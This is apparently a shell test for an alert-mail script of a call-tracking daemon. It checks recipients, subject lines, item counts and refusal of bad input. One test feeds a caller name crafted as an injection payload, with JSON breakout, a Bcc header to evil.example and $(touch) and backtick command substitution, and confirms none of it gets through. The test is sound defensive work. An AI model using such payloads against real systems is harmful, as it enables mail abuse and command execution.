#!/bin/sh
# The mail that alert-mail makes of what the real daemon tells it, down to the
# sendmail that it calls: a script here, which keeps what it gets.
. tests/whole/lib.sh

# The daemon gives its programs a PATH of its own, so the way to our sendmail
# is another script in between.
programs() {
	mkdir "$D/bin" || return 1
	printf '#!/bin/sh\nprintf "%%s\\n" "$*" >"%s/mail.args"\ncat >"%s/mail.new" &&\nmv "%s/mail.new" "%s/mail"\n' \
		"$D" "$D" "$D" "$D" >"$D/bin/sendmail"
	printf '#!/bin/sh\nPATH=%s/bin:$PATH exec %s/conf/alert-mail "$@"\n' \
		"$D" "$here" >"$D/alert"
	chmod 755 "$D/bin/sendmail" "$D/alert"
}

conf() { # broken after a second
	daemon_conf | sed 's/callback = "[0-9a-z]*"/callback = "1s"/'
	cat <<CONF
alert "duty" {
    on  = { "broken" }
    run = "$D/alert duty@acme.example night@acme.example"
}
CONF
}

mailed() { [ -s "$D/mail" ]; }
has_line() { grep -qxF -- "$1" "$D/mail"; }
lacks() { ! grep -q -- "$1" "$D/mail"; }
mail_of() { # mail_of JSON: alert-mail on that; its exit code
	rm -f "$D/mail"
	printf '%s\n' "$1" | "$D/alert" duty@acme.example
}
exit_code() { # exit_code WANTED COMMAND...
	wanted=$1
	shift
	rc=0
	"$@" || rc=$?
	[ "$rc" = "$wanted" ]
}

programs || give_up
conf >"$D/ringback.conf"
redis_start && daemon_start || give_up

# What a stranger may call himself, to get into the mail or into a shell.
name='\",\"alert\":\"pwned\"\\nBcc: x@evil.example $(touch '$D'/pwned) `id`'
push "{\"type\":\"call.missed\",\"id\":\"1\",\"from\":\"+49 30 23125 042\",\"name\":\"$name\"}" >/dev/null ||
	give_up 'a missed call is taken in'

check 'a broken promise is mailed' await 15 mailed
check 'the mail goes to all addresses' has_line \
	'To: duty@acme.example, night@acme.example'
check 'the subject says what happened' has_line \
	'Subject: ringback: broken, 1 item'
check 'the mail names the item' has_line '    ringback show 1001'
check 'nothing of the name gets into the mail' lacks 'pwned\|evil'
check 'no telephone number gets into the mail' lacks '23125'
check 'nothing of the name is run' [ ! -e "$D/pwned" ]
check 'addresses are no options of sendmail' grep -qx -- '-i -t' "$D/mail.args"

# Only the first fifty are listed by the daemon.
mail_of '{"alert":"broken","count":52,"to":"rb-leads","items":[{"number":1007}]}'
check 'the mail counts what is not listed' has_line \
	'    and 51 more: ringback list'
check 'the mail says for whom it is' has_line \
	'Alert broken, 52 items, for rb-leads.'
mail_of '{"alert":"source-down","count":0,"source":"pbx","why":"x","items":[]}'
check 'of a source the mail says which' has_line 'Alert source-down of pbx.'
check 'and where to look' has_line '    ringback sources'
check 'what is no alert is refused' exit_code 65 mail_of 'hello'
check 'nothing is mailed for it' [ ! -e "$D/mail" ]
check 'without an address it is refused' exit_code 64 \
	sh conf/alert-mail </dev/null
finish
